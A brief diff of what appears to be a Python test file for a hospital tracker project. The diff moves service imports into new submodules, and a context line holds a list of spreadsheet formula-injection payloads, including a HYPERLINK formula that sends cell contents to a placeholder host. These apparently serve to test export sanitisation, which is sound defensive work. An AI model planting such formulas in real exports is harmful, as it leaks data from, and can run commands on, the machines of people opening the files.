@@ -26,7 +26,8 @@ from tracker.models import (
     ExportLog,
     Population,
 )
-from tracker.services import audit, exports, hospital
+from tracker.services.records import audit, exports
+from tracker.services.setup import hospital
 
 LONDON = ZoneInfo("Europe/London")
 FORMULAS = ['=HYPERLINK("http://x.invalid/?"&A1,"ok")', "+SUM(1+1)", "-2+3", "@SUM(1)", "\t=1+1", "|calc", "%0A"]
